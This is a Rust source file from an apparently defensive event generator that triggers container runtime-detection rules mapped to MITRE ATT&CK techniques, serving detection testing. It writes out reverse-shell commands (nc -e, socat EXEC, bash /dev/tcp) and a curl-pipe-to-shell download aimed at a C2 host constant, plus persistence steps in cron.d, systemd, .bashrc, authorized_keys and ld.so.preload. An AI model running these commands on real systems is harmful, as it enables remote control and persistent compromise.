//! Actions: execution and persistence.
use anyhow::Result;

use super::{act, py, sh, tool, work, Action, Ctx, C2, WORK};

pub(crate) fn actions() -> Vec<Action> {
    vec![
        // ---- execution
        act!("interactive shell", "Terminal shell in container", "T1059.004", interactive_shell),
        act!("nc -e reverse shell", "Netcat remote code execution", "T1059", nc_exec),
        act!("socat EXEC: shell", "Netcat remote code execution", "T1059", socat_exec),
        act!("bash /dev/tcp shell", "Reverse shell command line", "T1059.004", dev_tcp),
        act!("run from /dev/shm", "Execution from /dev/shm", "T1059.004", dev_shm),
        act!("memfd exec", "Fileless execution via memfd", "T1620", memfd_exec),
        act!("drop and run in /tmp", "Drop and execute new binary in container", "T1105", drift),
        act!("nginx spawns sh", "Web server spawned a shell", "T1190", web_shell),
        act!("kubectl in pod", "Kubernetes client tool launched in container", "T1609", kubectl),
        act!("curl | sh", "Download piped to shell", "T1105", curl_pipe_sh),
        act!("postgres spawns sh", "DB program spawned process", "T1190", db_shell),
        act!("apt-get in pod", "Launch package management process in container", "T1072", apt_get),
        act!("base64 -d | sh", "Decode and execute encoded payload", "T1027", base64_sh),
        act!("2 KB base64 payload | sh", "Decode and execute encoded payload", "T1027", base64_padded),
        // ---- persistence
        act!("cron.d entry", "Schedule cron job", "T1053.003", cron),
        act!("authorized_keys", "Modify SSH authorized keys", "T1098.004", authorized_keys),
        act!("open /etc/passwd for write", "Modify account or authentication file", "T1098", passwd_write),
        act!("sudoers.d drop-in", "Modify account or authentication file", "T1098", sudoers_d),
        act!("systemd unit", "Create or modify systemd unit", "T1543.002", systemd_unit),
        act!("~/.bashrc append", "Modify shell configuration file", "T1546.004", bashrc),
        act!("/etc/profile.d script", "Modify shell configuration file", "T1546.004", profile_d),
        act!("/etc/ld.so.preload", "Dynamic linker preload configured", "T1574.006", ld_so_preload),
        act!(
            "LD_PRELOAD from /tmp",
            "Process started with LD_PRELOAD from writable location",
            "T1574.006",
            ld_preload_env
        ),
        act!("init.d script", "Create or modify init script", "T1037.004", init_d),
        act!("write /usr/local/bin", "Write below binary dir", "T1543", write_bin),
        act!("mkdir /usr/local/bin/x", "Mkdir below binary dir", "T1543", mkdir_bin),
        act!("useradd (prefix root)", "User management binary in container", "T1136.001", useradd),
        act!("passwd -S", "User management binary in container", "T1098", passwd_status),
        act!("chpasswd", "User management binary in container", "T1098", chpasswd),
    ]
}

fn interactive_shell(c: &Ctx) -> Result<()> {
    c.pod.run("sh", &["-i"], None, Some("exit\n"))
}

fn nc_exec(c: &Ctx) -> Result<()> {
    tool(c, "nc", &["-e", "/bin/sh", C2, "4444"])
}

fn socat_exec(c: &Ctx) -> Result<()> {
    tool(c, "socat", &[&format!("TCP:{C2}:4444"), "EXEC:/bin/sh"])
}

fn dev_tcp(c: &Ctx) -> Result<()> {
    c.pod.run("bash", &["-c", &format!("exec 3<>/dev/tcp/{C2}/443; echo id >&3")], None, None)
}

fn dev_shm(c: &Ctx) -> Result<()> {
    c.pod.run("/dev/shm/lnr-evtgen-payload", &[], None, None)
}

fn memfd_exec(c: &Ctx) -> Result<()> {
    py(
        c,
        "import os\nfd = os.memfd_create('lnr-evtgen', 0)\nos.write(fd, open('/bin/true', 'rb').read())\n\
         os.execv('/proc/self/fd/%d' % fd, ['lnr-evtgen'])",
        None,
    )
}

fn drift(c: &Ctx) -> Result<()> {
    sh(c, "cp /bin/true ./dropped && chmod 755 ./dropped")?;
    c.pod.run(&work("dropped"), &[], None, None)
}

fn web_shell(c: &Ctx) -> Result<()> {
    // "nginx" forks a shell for a command it was tricked into running.
    tool(c, "nginx", &["-c", "sh -c 'id > /dev/null'; true"])
}

fn db_shell(c: &Ctx) -> Result<()> {
    // "postgres" running COPY ... FROM PROGRAM.
    tool(c, "postgres", &["-c", "sh -c 'id > /dev/null'; true"])
}

fn apt_get(c: &Ctx) -> Result<()> {
    c.pod.run("apt-get", &["-s", "-qq", "check"], None, None)
}

fn kubectl(c: &Ctx) -> Result<()> {
    tool(c, "kubectl", &["version", "--client", "-o", "json"])
}

fn curl_pipe_sh(c: &Ctx) -> Result<()> {
    sh(c, &format!("curl -s http://{C2}:8080/install.sh | sh"))
}

fn base64_sh(c: &Ctx) -> Result<()> {
    sh(c, "echo dHJ1ZQo= | base64 -d | sh")
}

fn base64_padded(c: &Ctx) -> Result<()> {
    // "true #AAA...AA\n" encoded: the decode and the pipe come after 2 KB of payload on the
    // command line (the exec record kept only its first KiB until 2026-12-05).
    let b64 = format!("dHJ1ZSAj{}QUEK", "QUFB".repeat(500));
    sh(c, &format!("echo {b64} | base64 -d | sh"))
}

fn cron(c: &Ctx) -> Result<()> {
    sh(c, &format!("echo '* * * * * root {WORK}/dropped' > /etc/cron.d/lnr-evtgen"))
}

fn authorized_keys(c: &Ctx) -> Result<()> {
    sh(c, &format!("echo 'ssh-ed25519 AAAAlnrevtgen evt@c2' >> {WORK}/home/.ssh/authorized_keys"))
}

fn passwd_write(c: &Ctx) -> Result<()> {
    // Opened for appending, nothing written: the open is the behaviour, the file is unchanged.
    sh(c, ": >> /etc/passwd")
}

fn sudoers_d(c: &Ctx) -> Result<()> {
    sh(c, ": >> /etc/sudoers.d/lnr-evtgen")
}

fn systemd_unit(c: &Ctx) -> Result<()> {
    sh(c, &format!("printf '[Service]\\nExecStart={WORK}/dropped\\n' > /etc/systemd/system/lnr-evtgen.service"))
}

fn bashrc(c: &Ctx) -> Result<()> {
    sh(c, &format!("echo '{WORK}/dropped &' >> {WORK}/home/.bashrc"))
}

fn profile_d(c: &Ctx) -> Result<()> {
    sh(c, "echo 'true' > /etc/profile.d/lnr-evtgen.sh")
}

fn ld_so_preload(c: &Ctx) -> Result<()> {
    // Opened for appending, nothing written (an empty or unchanged preload list).
    sh(c, ": >> /etc/ld.so.preload")
}

fn ld_preload_env(c: &Ctx) -> Result<()> {
    // A short environment: the agent captures the first part of a long one only.
    c.pod.run("env", &["-i", "PATH=/usr/bin:/bin", &format!("LD_PRELOAD={WORK}/preload.so"), "/bin/true"], None, None)
}

fn init_d(c: &Ctx) -> Result<()> {
    sh(c, "printf '#!/bin/sh\\ntrue\\n' > /etc/init.d/lnr-evtgen")
}

fn write_bin(c: &Ctx) -> Result<()> {
    sh(c, "printf '#!/bin/sh\\n' > /usr/local/bin/lnr-evtgen-w")
}

fn mkdir_bin(c: &Ctx) -> Result<()> {
    c.pod.run("mkdir", &["/usr/local/bin/lnr-evtgen.d"], None, None)
}

fn useradd(c: &Ctx) -> Result<()> {
    // A real account added, in a prefix tree of the work directory (not the host's /etc).
    c.pod.run("useradd", &["--prefix", &work("root"), "-M", "-N", "-s", "/bin/false", "lnrevt"], None, None)
}

fn passwd_status(c: &Ctx) -> Result<()> {
    c.pod.run("passwd", &["-S", "root"], None, None)
}

fn chpasswd(c: &Ctx) -> Result<()> {
    c.pod.run("chpasswd", &["-R", &work("root")], None, Some("lnrevt:lnr-evtgen\n"))
}
